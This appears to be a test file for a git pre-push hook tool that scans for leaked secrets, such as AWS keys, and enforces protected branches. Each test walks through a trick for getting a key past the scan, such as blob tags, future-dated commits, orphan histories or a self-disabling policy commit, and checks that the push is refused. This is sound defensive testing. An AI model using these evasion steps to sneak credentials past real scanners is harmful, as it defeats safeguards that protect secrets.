  it("a push of commits the remote has already is judged by the remote's policy, not the working tree's", async () => {
    // Nothing new to push (a tag or a new branch name on pushed work): the remote's default branch
    // judges it. Before, the working tree's uncommitted policy judged such a push.
    const { repo, remote } = await pushed("  protectedBranches: [release]\n");
    await repo.git(["push", "-q", "--no-verify", "origin", "main:feature"]);
    repo.write(
      ".rampart/config.yaml",
      POLICY("secrets:\n  disableRules: [aws-access-key-id]\n").replace(
        "signatures: false",
        "signatures: false\n    secrets: false",
      ),
    );
    const release = await repo.gitResult(["push", "-q", "origin", "main:release"]);
    expect(release.exitCode).not.toBe(0);
    expect(release.stdout + release.stderr).toContain("direct push to protected branch release");
    await repo.git(["tag", "-a", "v2.0.0", "-m", `release 2.0.0\n\n${leak()}`]);
    const tag = await repo.gitResult(["push", "-q", "origin", "v2.0.0"]);
    expect(tag.exitCode).not.toBe(0);
    expect(tag.stdout + tag.stderr).toMatch(/tag v2\.0\.0.*aws-access-key-id/);
    expect((await remote.gitResult(["rev-parse", "-q", "--verify", "refs/heads/release"])).exitCode).not.toBe(0);
    expect((await remote.gitResult(["rev-parse", "-q", "--verify", "refs/tags/v2.0.0"])).exitCode).not.toBe(0);
  });

  it("a tag or ref naming a blob or a tree is scanned: its content is pushed with no commit", async () => {
    const { repo, remote } = await pushed();
    repo.write("outside/deploy.ini", leak());
    const blob = (await repo.git(["hash-object", "-w", "outside/deploy.ini"])).trim();
    const tree = (await repo.git(["mktree"], { input: `100644 blob ${blob}\tdeploy.ini\n` })).trim();
    await repo.git(["tag", "key-blob", blob]);
    await repo.git(["tag", "-a", "key-blob-annotated", "-m", "a file", blob]);
    await repo.git(["tag", "key-tree", tree]);
    for (const target of ["key-blob", "key-blob-annotated", "key-tree", `${blob}:refs/custom/key`]) {
      const r = await repo.gitResult(["push", "-q", "origin", target]);
      expect({ target, pushed: r.exitCode === 0 }).toEqual({ target, pushed: false });
      expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    }
    expect((await remote.git(["for-each-ref", "--format=%(refname)"])).trim()).toBe("refs/heads/main");
    // A blob without a key is pushed.
    repo.write("outside/notes.txt", "nothing here\n");
    await repo.git(["tag", "notes", (await repo.git(["hash-object", "-w", "outside/notes.txt"])).trim()]);
    const clean = await repo.gitResult(["push", "-q", "origin", "notes"]);
    expect(clean.exitCode, clean.stderr).toBe(0);
  });

  it("a blob or tree pushed is judged by the remote's default branch, never by its newest (future-dated) commit", async () => {
    const { repo, remote } = await pushed();
    // Someone's unreviewed branch on the remote, its committer date in the future, switching the rule off.
    await repo.git(["checkout", "-q", "-b", "unreviewed"]);
    repo.write(".rampart/config.yaml", POLICY("secrets:\n  disableRules: [aws-access-key-id]\n"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: quiet"], {
      env: { ...repo.env, GIT_COMMITTER_DATE: "2099-01-01T00:00:00Z" },
    });
    await repo.git(["push", "-q", "--no-verify", "origin", "unreviewed"]);
    await repo.git(["checkout", "-q", "main"]);
    repo.write("outside/deploy.ini", leak());
    const blob = (await repo.git(["hash-object", "-w", "outside/deploy.ini"])).trim();
    const push = async (tag: string) => {
      await repo.git(["tag", tag, blob]);
      return repo.gitResult(["push", "-q", "origin", tag]);
    };
    // origin/HEAD unknown here (a remote added, not cloned): the remote says main.
    const said = await push("key-1");
    expect(said.exitCode).not.toBe(0);
    expect(said.stdout + said.stderr).toContain("aws-access-key-id");
    // Nor does the remote know (its HEAD names no branch), no protected branch: the defaults.
    await remote.git(["symbolic-ref", "HEAD", "refs/heads/none"]);
    const unknown = await push("key-1b");
    expect(unknown.exitCode).not.toBe(0);
    expect(unknown.stdout + unknown.stderr).toContain("aws-access-key-id");
    expect(unknown.stderr).toContain("git remote set-head origin --auto");
    await remote.git(["symbolic-ref", "HEAD", "refs/heads/main"]);
    // The default branch's own (reviewed) policy judges it once this clone knows which branch that is.
    repo.write(".rampart/config.yaml", POLICY("secrets:\n  disableRules: [aws-access-key-id]\n"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: quiet"]);
    await repo.git(["push", "-q", "--no-verify", "origin", "main"]);
    await repo.git(["remote", "set-head", "origin", "main"]);
    const byHead = await push("key-2");
    expect(byHead.exitCode, byHead.stderr).toBe(0);
    // Without origin/HEAD, the remote says main again; where it does not, the defaults: a branch
    // the working tree's policy names (the pusher's own, uncommitted word) never chooses the
    // remote branch that judges.
    await repo.git(["remote", "set-head", "origin", "-d"]);
    const bySaid = await push("key-2b");
    expect(bySaid.exitCode, bySaid.stderr).toBe(0);
    await remote.git(["symbolic-ref", "HEAD", "refs/heads/none"]);
    expect((await push("key-3")).exitCode).not.toBe(0);
    repo.write(".rampart/config.yaml", POLICY("  protectedBranches: ['release/*', unreviewed]\n"));
    const byWorkingTree = await push("key-4");
    expect(byWorkingTree.exitCode).not.toBe(0);
    expect(byWorkingTree.stdout + byWorkingTree.stderr).toContain("aws-access-key-id");
  });

  it("an orphan root pushed to a remote with refs is judged by its default branch, not by its own policy", async () => {
    // `git checkout --orphan` starts a history with no parent on the remote: before, it was read
    // as a new history and its own policy (the pre-push secret scan off) judged it.
    const { repo, remote } = await pushed();
    await repo.git(["checkout", "-q", "--orphan", "x"]);
    repo.write(".rampart/config.yaml", POLICY().replace("signatures: false", "signatures: false\n    secrets: false"));
    repo.write("deploy.ini", leak());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: a history of its own"]);
    // origin/HEAD unknown (a remote added, not cloned: the remote says which its default branch
    // is), recorded, and a push to the remote's URL (no remote-tracking ref at all).
    for (const [how, target] of [
      ["remote added", "origin"],
      ["origin/HEAD recorded", "origin"],
      ["pushed to a URL", remote.dir],
    ] as const) {
      if (how === "origin/HEAD recorded") await repo.git(["remote", "set-head", "origin", "main"]);
      const r = await repo.gitResult(["push", "-q", target, "x"]);
      expect({ how, pushed: r.exitCode === 0 }).toEqual({ how, pushed: false });
      expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    }
    expect((await remote.git(["for-each-ref", "--format=%(refname)"])).trim()).toBe("refs/heads/main");
    // A remote with no refs at all is a new history: nothing anyone else wrote judges it.
    const empty = await gitRepo({}, { bare: true });
    const fresh = await repo.gitResult(["push", "-q", empty.dir, "x"]);
    expect(fresh.exitCode, fresh.stderr).toBe(0);
  });

  it("a feature branch is judged by the remote's default branch, not by the branch's own earlier push", async () => {
    const { repo } = await pushed();
    // A feature branch whose policy is main's: a clean push passes, a key is refused.
    await repo.git(["checkout", "-q", "-b", "f"]);
    repo.write("notes.txt", "nothing here\n");
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "docs: notes"]);
    const clean = await repo.gitResult(["push", "-q", "origin", "f"]);
    expect(clean.exitCode, clean.stderr).toBe(0);
    // Push 1 switches the pre-push secret scan off (nothing else: it is pushed); push 2 adds a key.
    // Before, push 2 was judged by the remote tip of f, push 1: the pusher's own, unreviewed word.
    repo.write(".rampart/config.yaml", POLICY().replace("signatures: false", "signatures: false\n    secrets: false"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: quiet"]);
    expect((await repo.gitResult(["push", "-q", "origin", "f"])).exitCode).toBe(0);
    repo.write("deploy.ini", leak());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "feat: deploy"]);
    for (const target of ["f", "f:g"]) {
      // f:g, a new branch: the parent of its oldest new commit is push 1 as well.
      const r = await repo.gitResult(["push", "-q", "origin", target]);
      expect({ target, pushed: r.exitCode === 0 }).toEqual({ target, pushed: false });
      expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    }
    // A policy change on the default branch applies to the next push of any branch.
    await repo.git(["checkout", "-q", "main"]);
    repo.write(".rampart/config.yaml", POLICY("secrets:\n  disableRules: [aws-access-key-id]\n"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: quiet"]);
    expect((await repo.gitResult(["push", "-q", "origin", "main"])).exitCode).toBe(0);
    await repo.git(["checkout", "-q", "-b", "h"]);
    repo.write("deploy.ini", leak());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "feat: deploy"]);
    const byMain = await repo.gitResult(["push", "-q", "origin", "h"]);
    expect(byMain.exitCode, byMain.stderr).toBe(0);
  });

  it("one push asks the remote for its default branch once, for every ref and step, and each ref is judged by it", async () => {
    // No origin/HEAD (a remote added, not cloned): the remote is asked (`git ls-remote --symref`).
    // Before, each pushed ref asked twice, once for the hook's secret guard and once for the
    // signature check.
    const { repo, remote } = await pushed();
    repo.write(".rampart/config.yaml", POLICY().replace("signatures: false", "signatures: true"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: check signatures on push"]);
    await repo.git(["push", "-q", "--no-verify", "origin", "main"]);
    for (const [branch, content] of [
      ["a", "nothing here\n"],
      ["b", leak()],
    ]) {
      await repo.git(["checkout", "-q", "-b", branch!, "main"]);
      repo.write(`${branch}.ini`, content!);
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `feat: ${branch}`]);
    }
    const trace = join(repo.home, "git-trace.log");
    const push = async (...refs: string[]) => {
      rmSync(trace, { force: true });
      const r = await repo.gitResult(["push", "-q", "origin", ...refs], { env: { ...repo.env, GIT_TRACE: trace } });
      const asked = readFileSync(trace, "utf8").match(/built-in: git ls-remote /g)?.length ?? 0;
      return { ...r, asked };
    };
    const both = await push("a", "b");
    expect(both.exitCode).not.toBe(0);
    expect(both.stdout + both.stderr).toContain("aws-access-key-id");
    expect(both.stdout + both.stderr).toContain("b.ini");
    expect(both.asked).toBe(1);
    // The remote's HEAD names no branch: the defaults judge every ref of the push, still one ask.
    await remote.git(["symbolic-ref", "HEAD", "refs/heads/none"]);
    const unknown = await push("a", "b");
    expect(unknown.exitCode).not.toBe(0);
    expect(unknown.stdout + unknown.stderr).toContain("aws-access-key-id");
    expect(unknown.stderr).toContain("git remote set-head origin --auto");
    expect(unknown.asked).toBe(1);
    const clean = await push("a");
    expect(clean.exitCode, clean.stderr).toBe(0);
    expect(clean.asked).toBe(1);
  });

  it("a pushed commit that turns the pre-push secret scan off, or unprotects a branch, is refused", async () => {
    const { repo } = await pushed();
    repo.write(".rampart/config.yaml", POLICY().replace("signatures: false", "signatures: false\n    secrets: false"));
    repo.write("deploy.ini", leak());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "feat: deploy"]);
    const off = await repo.gitResult(["push", "-q", "origin", "main"]);
    expect(off.exitCode).not.toBe(0);
    expect(off.stdout + off.stderr).toContain("aws-access-key-id");
    // protectedBranches: the remote's list applies to a push that drops it
    await repo.git(["reset", "-q", "--hard", "origin/main"]);
    repo.write(".rampart/config.yaml", POLICY("  protectedBranches: [release]\n"));
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: protect release"]);
    expect((await repo.gitResult(["push", "-q", "origin", "main"])).exitCode).toBe(0);
    await repo.git(["push", "-q", "--no-verify", "origin", "main:release"]);
    repo.write(".rampart/config.yaml", POLICY());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: unprotect release"]);
    const unprotect = await repo.gitResult(["push", "-q", "origin", "main:release"]);
    expect(unprotect.exitCode).not.toBe(0);
    expect(unprotect.stdout + unprotect.stderr).toContain("direct push to protected branch release");
  });

  it("every pushed commit's lines are scanned, whatever their committer dates (a merge of a line dated before its parent)", async () => {
    // main <- P (the key, dated 2030) <- X <- M (merge); P <- Y (dated 2000) -> M. By date, Y is
    // the oldest commit the remote lacks, and its parent P is a pushed commit: a range from P
    // left P's own lines unscanned.
    const { repo, remote } = await pushed();
    await repo.git(["checkout", "-q", "-b", "feature"]);
    const at = (date: string) => ({ env: { ...repo.env, GIT_COMMITTER_DATE: date, GIT_AUTHOR_DATE: date } });
    repo.write("deploy.ini", leak());
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "feat: P"], at("2030-01-01T00:00:00Z"));
    const p = (await repo.git(["rev-parse", "HEAD"])).trim();
    repo.write("x.txt", "x\n");
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: X"], at("2031-01-01T00:00:00Z"));
    await repo.git(["checkout", "-q", p]);
    repo.write("y.txt", "y\n");
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: Y"], at("2000-01-01T00:00:00Z"));
    const y = (await repo.git(["rev-parse", "HEAD"])).trim();
    await repo.git(["checkout", "-q", "feature"]);
    await repo.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "chore: merge", y], at("2032-01-01T00:00:00Z"));
    const r = await repo.gitResult(["push", "-q", "origin", "feature"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    expect((await remote.gitResult(["rev-parse", "-q", "--verify", "refs/heads/feature"])).exitCode).not.toBe(0);
  });
});

describe("a missing, renamed or broken policy never turns a hook off silently", () => {
  it("each of the three hooks refuses, naming the file", async () => {
    const repo = await adopted();
    const { rmSync, renameSync } = await import("node:fs");
    const states: Array<[string, () => void, RegExp]> = [
      ["missing", () => rmSync(repo.path(".rampart/config.yaml")), /\.rampart\/config\.yaml is missing/],
      [
        "renamed",
        () => renameSync(repo.path(".rampart/config.yaml"), repo.path(".rampart/config.yml")),
        /\.rampart\/config\.yaml is missing/,
      ],
      ["broken", () => repo.write(".rampart/config.yaml", "version: 1\nhooks: [\n"), /\.rampart\/config\.yaml:\d+/],
    ];
    repo.write(".git/COMMIT_EDITMSG", "chore: x\n");
    for (const [state, breakIt, names] of states) {
      breakIt();
      const runs = {
        "pre-commit": await runCommand("sh", [".husky/pre-commit"], { cwd: repo.dir, env: repo.env }),
        "commit-msg": await runCommand("sh", [".husky/commit-msg", ".git/COMMIT_EDITMSG"], {
          cwd: repo.dir,
          env: repo.env,
        }),
        "pre-push": await runCommand("sh", [".husky/pre-push", "origin", "url"], {
          cwd: repo.dir,
          env: repo.env,
          input: "",
        }),
      };
      for (const [hook, r] of Object.entries(runs)) {
        expect({ state, hook, refused: r.exitCode !== 0 }).toEqual({ state, hook, refused: true });
        expect(r.stderr, `${state} ${hook}`).toMatch(names);
      }
      await repo.git(["checkout", "-q", "--", ".rampart"]);
      rmSync(repo.path(".rampart/config.yml"), { force: true });
    }
  });
});
